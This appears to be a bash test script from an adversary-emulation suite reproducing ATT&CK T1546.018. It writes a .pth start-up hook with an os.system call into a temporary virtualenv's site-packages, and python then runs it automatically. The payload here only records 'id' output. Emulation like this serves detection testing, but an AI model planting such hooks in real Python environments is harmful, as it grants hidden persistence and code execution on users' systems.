#!/bin/bash
# technique: T1546.018
# tactic: persistence, privilege_escalation
# what: a .pth start-up hook (import os; os.system(...)) written into a virtualenv's site-packages,
#       then python started: the interpreter spawns a shell before any code of its own
# source: ART T1546.018 #3 "Python Startup Hook - atomic_hook.pth (Linux)"
# cleanup: the virtualenv is removed at exit
. "$(dirname "$0")/lib.sh"
d=$(vg_tmp)
python3 -m venv --without-pip "$d/env"
site=$("$d/env/bin/python3" -c "import site; print(site.getsitepackages()[0])")
echo "import os; os.system('id > $d/hook_poc.txt')" > "$site/atomic_hook.pth"
"$d/env/bin/python3" -c "print('hello')" >/dev/null
